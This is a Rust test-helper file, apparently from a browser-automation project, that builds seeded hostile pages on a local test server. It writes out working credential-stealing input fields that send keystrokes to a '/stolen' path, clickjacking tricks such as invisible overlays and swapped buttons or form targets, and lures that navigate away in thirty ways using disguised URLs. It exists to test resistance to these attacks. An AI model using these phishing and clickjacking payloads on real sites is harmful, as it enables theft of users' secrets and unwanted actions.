//! A hostile web site, drawn from a seed: pages that lure secrets, clicks and visits to where they do not belong.

#![allow(dead_code, reason = "each test file uses only some helpers")]

use super::TestPageServer;

/// Returns the seeds that hostile sites are drawn from; `WINDLASS_HOSTILE_SEEDS` sets another number.
pub(crate) fn hostile_seeds(default: u64) -> std::ops::Range<u64> {
    let seeds = std::env::var("WINDLASS_HOSTILE_SEEDS").ok().and_then(|seeds| seeds.parse().ok());
    0..seeds.unwrap_or(default)
}

/// A generator of numbers from a seed (SplitMix64).
pub(crate) struct SeededNumbers(pub(crate) u64);

impl SeededNumbers {
    pub(crate) fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    pub(crate) fn pick<'a, T>(&mut self, choices: &'a [T]) -> &'a T {
        &choices[(self.next() % choices.len() as u64) as usize]
    }

    pub(crate) fn below(&mut self, limit: u64) -> u64 {
        self.next() % limit
    }
}

/// A trap for a secret: a page on which the focus ends in a field of another site than it seems.
#[derive(Clone, Debug)]
pub(crate) struct SecretTrap {
    pub(crate) name: &'static str,
    /// URL of the page that the trap begins on. Its host is the one that the secret is for.
    pub(crate) url: String,
}

/// The names of the traps for secrets.
pub(crate) const SECRET_TRAPS: [&str; 7] =
    ["frame", "nested frame", "redirect", "link", "focus thief", "popup", "srcdoc sandbox"];

/// The field of the thief: it reports all input to the thief's server.
fn thief_field(numbers: &mut SeededNumbers) -> String {
    let kind = numbers.pick(&["text", "password", "search", "email"]);
    let delay = numbers.below(50);
    format!(
        "<style>body{{margin:0}}</style><input id=field autofocus type={kind} \
         style='position:absolute;left:40px;top:40px;width:300px;height:30px'><script>\
         addEventListener('input', () => fetch('/stolen?' + encodeURIComponent(field.value)));\
         setTimeout(() => field.focus(), {delay});</script>"
    )
}

/// Adds a trap to a server. The thief is the other host name of the server.
pub(crate) fn add_secret_trap(
    pages: &TestPageServer,
    numbers: &mut SeededNumbers,
    name: &'static str,
) -> SecretTrap {
    pages.add("thief", &thief_field(numbers));
    let thief = pages.other_site_url("thief");
    let frame = |src: &str| {
        format!(
            "<iframe style='position:absolute;left:0;top:0;border:0;width:800px;height:600px' {src}></iframe>"
        )
    };
    let title = numbers.pick(&["Sign in", "Your account", "Bank"]).to_owned();
    let own = "<input id=own style='position:absolute;left:40px;top:40px;width:300px;height:30px'>";
    let body = match name {
        "frame" => frame(&format!("src='{thief}'")),
        "nested frame" => {
            pages.add("middle", &frame(&format!("src='{thief}'")));
            frame("src='/middle'")
        }
        "redirect" => format!("{own}<script>own.onclick = () => location.href = '{thief}'</script>"),
        "link" => format!(
            "<a href='{thief}' style='position:absolute;left:0;top:0;width:400px;height:200px'>{title}</a>"
        ),
        "focus thief" => format!(
            "{own}{}<script>own.onfocus = () => setTimeout(() => document.querySelector('iframe').focus(), {})</script>",
            frame(&format!("src='{thief}'")).replace("left:0;top:0", "left:0;top:300px"),
            numbers.below(30)
        ),
        "popup" => format!(
            "{own}<script>own.onclick = () => window.open('{thief}', '_blank', 'width=800,height=600')</script>"
        ),
        "srcdoc sandbox" => {
            let field =
                "<input autofocus style=position:absolute;left:40px;top:40px;width:300px;height:30px>";
            frame(&format!("sandbox='allow-scripts' srcdoc='{field}'"))
        }
        other => panic!("there is no trap {other}"),
    };
    SecretTrap { name, url: pages.add("bank", &format!("<h1 style='margin:0'>{title}</h1>{body}")) }
}

/// The names of the traps for clicks.
pub(crate) const CLICK_TRAPS: [&str; 8] =
    ["overlay", "label", "form", "value", "exchange", "frame", "navigation", "dialog"];

/// Adds a page with a button that a person would approve to click, and returns its URL. The page springs its trap when
/// `spring()` is called, as a site does while a person decides; from then on, every click helps the thief.
pub(crate) fn add_click_trap(
    pages: &TestPageServer,
    numbers: &mut SeededNumbers,
    name: &'static str,
) -> String {
    let label = *numbers.pick(&["Continue", "Next", "Accept", "OK"]);
    let (left, top) = (20 + numbers.below(60), 20 + numbers.below(30));
    let place = format!("position:absolute;left:{left}px;top:{top}px;width:200px;height:60px");
    let steal = "onclick=\"fetch('/stolen?click')\"";
    let thief = format!("<style>body{{margin:0}}</style><button style='{place}' {steal}>{label}</button>");
    pages.add("thief", &thief);
    let spring = match name {
        "overlay" => format!(
            "document.body.insertAdjacentHTML('beforeend', `<div style='{place};z-index:9;opacity:0.01' {steal}></div>`)"
        ),
        "label" => "button.textContent = 'Delete the account'".to_owned(),
        "form" => "order.action = '/stolen'".to_owned(),
        "value" => format!("order.elements.amount.value = {}", 1000 + numbers.below(9000)),
        "exchange" => format!("order.outerHTML = `<button style='{place}' {steal}>{label}</button>`"),
        "frame" => format!(
            "document.body.insertAdjacentHTML('beforeend', `<iframe src='{}' style='position:absolute;left:0;top:0;\
             border:0;width:600px;height:400px'></iframe>`)",
            pages.other_site_url("thief")
        ),
        "navigation" => format!("location.href = '{}'", pages.other_site_url("thief")),
        "dialog" => "setTimeout(() => confirm('Give everything away?'))".to_owned(),
        other => panic!("there is no trap {other}"),
    };
    let body = format!(
        "<style>body{{margin:0}}</style><form id=order action=/sent method=post><input type=hidden name=amount value=1>\
         <button id=button style='{place}'>{label}</button></form><script>function spring() {{ {spring}; }}</script>"
    );
    pages.add("order", &body)
}

/// A lure: a page that takes its visitor to the other site, by one way out.
#[derive(Clone, Debug)]
pub(crate) struct VisitLure {
    pub(crate) way_out: &'static str,
    /// The address of the other site, as the page writes it.
    pub(crate) address: String,
    /// URL of the page. A click in its upper left corner springs the lure.
    pub(crate) url: String,
    /// Path that the other site is asked for if the lure works.
    pub(crate) reached: String,
}

/// The ways out of a page.
pub(crate) const WAYS_OUT: [&str; 30] = [
    "assign",
    "replace",
    "navigation interface",
    "javascript address",
    "open",
    "open blank",
    "open without opener",
    "opened page",
    "link",
    "link to a tab",
    "link to a frame",
    "link of a download",
    "link by a base",
    "link of a drawing",
    "area",
    "form",
    "posted form",
    "form to a tab",
    "button of a form",
    "image of a form",
    "refresh",
    "written refresh",
    "refresh by a header",
    "frame",
    "frame with a script",
    "frame that moves the page",
    "frame of data",
    "frame of a blob",
    "blob",
    "object",
];

/// The ways out that put the address into a frame.
const FRAMED_WAYS: [&str; 7] = [
    "link to a frame",
    "frame",
    "frame with a script",
    "frame of data",
    "frame of a blob",
    "object",
    // The page that refreshes is in a frame.
    "refresh by a header",
];

/// Returns the other site's address, disguised. All forms reach the same page. The browser itself refuses a user name in
/// the address of a frame.
fn disguised_address(port: u16, path: &str, is_framed: bool, numbers: &mut SeededNumbers) -> String {
    match numbers.below(6) {
        1 if is_framed => format!("http://localhost:{port}/{path}"),
        0 => format!("http://LOCALHOST:{port}/{path}"),
        1 => format!("http://127.0.0.1:{port}@localhost:{port}/{path}"),
        2 => format!("//localhost:{port}/{path}"),
        3 => format!("http:///localhost:{port}/{path}"),
        4 => format!("http://%6Cocalhost:{port}/{path}"),
        _ => format!("http://localhost:{port}/{path}"),
    }
}

/// Returns the script that takes the visitor of a page to an address, by a way out.
fn way_out_script(pages: &TestPageServer, way_out: &str, to: &str, id: u64) -> String {
    let add = |html: &str| format!("document.body.insertAdjacentHTML('beforeend', `{html}`)");
    let head = |html: &str| format!("document.head.insertAdjacentHTML('beforeend', `{html}`)");
    let clicked = |html: &str| format!("{}; document.getElementById('out').click()", add(html));
    // The address as an absolute one, for documents that have no address of their own.
    let absolute = format!("new URL('{to}', location).href");
    match way_out {
        "assign" => format!("location.href = '{to}'"),
        "replace" => format!("location.replace('{to}')"),
        "navigation interface" => format!("navigation.navigate('{to}')"),
        "javascript address" => {
            clicked(&format!("<a id=out href=\"javascript:void(location = '{to}')\">out</a>"))
        }
        "open" => format!("window.open('{to}')"),
        "open blank" => format!("const w = window.open('about:blank'); w.location = {absolute}"),
        "open without opener" => format!("window.open('{to}', '_blank', 'noopener')"),
        "opened page" => {
            pages.add(&format!("opened-{id}"), &format!("<script>opener.location.href = '{to}'</script>"));
            format!("window.open('/opened-{id}')")
        }
        "link" => clicked(&format!("<a id=out href='{to}'>out</a>")),
        "link to a tab" => clicked(&format!("<a id=out target=_blank rel=noopener href='{to}'>out</a>")),
        "link to a frame" => {
            clicked(&format!("<iframe name=inner></iframe><a id=out target=inner href='{to}'>out</a>"))
        }
        // The attribute counts for the same site only: the browser follows the link.
        "link of a download" => clicked(&format!("<a id=out download href='{to}'>out</a>")),
        "link by a base" => {
            let port = pages.port;
            let base = head(&format!("<base href='http://localhost:{port}/'>"));
            format!("{base}; {}", clicked(&format!("<a id=out href='lured-{id}'>out</a>")))
        }
        "link of a drawing" => format!(
            "{}; document.getElementById('out').dispatchEvent(new MouseEvent('click', {{ bubbles: true }}))",
            add(&format!("<svg><a id=out href='{to}'><text y=20>out</text></a></svg>"))
        ),
        "area" => clicked(&format!("<map name=m><area id=out shape=default href='{to}'></map>")),
        "form" => format!("{}; out.submit()", add(&format!("<form id=out action='{to}'></form>"))),
        "posted form" => {
            format!("{}; out.submit()", add(&format!("<form id=out method=post action='{to}'></form>")))
        }
        "form to a tab" => {
            format!("{}; out.submit()", add(&format!("<form id=out target=_blank action='{to}'></form>")))
        }
        "button of a form" => {
            clicked(&format!("<form action=/form.html><button id=out formaction='{to}'>out</button></form>"))
        }
        "image of a form" => {
            clicked(&format!("<form action=/form.html><input id=out type=image formaction='{to}'></form>"))
        }
        "refresh" => head(&format!("<meta http-equiv=refresh content='0;url={to}'>")),
        "written refresh" => format!(
            "document.open(); document.write(`<meta http-equiv=refresh content='0;url={to}'>`); document.close()"
        ),
        "refresh by a header" => {
            pages.redirect(&format!("refresh-{id}"), "200 OK", &format!("Refresh: 0;url={to}"));
            add(&format!("<iframe src=/refresh-{id}></iframe>"))
        }
        "frame" => add(&format!("<iframe src='{to}'></iframe>")),
        "frame with a script" => {
            add(&format!("<iframe srcdoc=\"<script>location.href = '{to}'<\\/script>\"></iframe>"))
        }
        "frame that moves the page" => {
            add(&format!("<iframe srcdoc=\"<script>top.location.href = '{to}'<\\/script>\"></iframe>"))
        }
        "frame of data" => format!(
            "const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(\
             `<script>location.href = '${{{absolute}}}'<\\/script>`); document.body.append(f)"
        ),
        "frame of a blob" => format!(
            "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([\
             `<script>location.href = '${{{absolute}}}'<\\/script>`], {{ type: 'text/html' }})); document.body.append(f)"
        ),
        "blob" => format!(
            "location.href = URL.createObjectURL(new Blob([\
             `<script>location.href = '${{{absolute}}}'<\\/script>`], {{ type: 'text/html' }}))"
        ),
        "object" => add(&format!("<object data='{to}' type='text/html'></object>")),
        other => panic!("there is no way {other}"),
    }
}

/// Adds a lure to a server: the way out is the given one, and the address, the delay, and the frames around it are drawn.
pub(crate) fn add_visit_lure(
    pages: &TestPageServer,
    numbers: &mut SeededNumbers,
    way_out: &'static str,
) -> VisitLure {
    let id = numbers.next();
    let reached = format!("lured-{id}");
    let port = pages.port;
    let levels = numbers.below(3);
    let is_framed = levels > 0 || FRAMED_WAYS.contains(&way_out);
    let address = disguised_address(port, &reached, is_framed, numbers);
    // Some ways lead through a page of the listed site that redirects.
    let location = format!("Location: http://localhost:{port}/{reached}");
    let to = match numbers.below(4) {
        0 => {
            pages.redirect(&format!("hop-{id}"), "302 Found", &location);
            format!("/hop-{id}")
        }
        1 => {
            pages.redirect(&format!("hop-{id}"), "307 Temporary Redirect", &location);
            format!("/hop-{id}")
        }
        _ => address.clone(),
    };
    let script = way_out_script(pages, way_out, &to, id);
    let delay = *numbers.pick(&[0, 0, 1, 30]);
    let script = match delay {
        // Tabs are opened only in the course of a click.
        0 => script,
        _ if way_out.contains("open") || way_out.contains("tab") => script,
        delay => format!("setTimeout(() => {{ {script} }}, {delay})"),
    };
    let button = format!(
        "<style>body{{margin:0}}</style><button style='position:absolute;left:0;top:0;width:200px;height:100px' \
         onclick=\"fetch('/sprung-{id}')\">in</button><script>document.querySelector('button').addEventListener('click', \
         () => {{ {script} }})</script>"
    );
    let mut url = pages.add(&format!("lure-{id}"), &button);
    for level in 0..levels {
        let framed = format!(
            "<style>body{{margin:0}}</style><iframe src='{url}' style='border:0;position:absolute;left:0;top:0;\
             width:600px;height:400px'></iframe>"
        );
        url = pages.add(&format!("frame-{level}-{id}"), &framed);
    }
    VisitLure { way_out, address, url, reached: format!("/{reached}") }
}
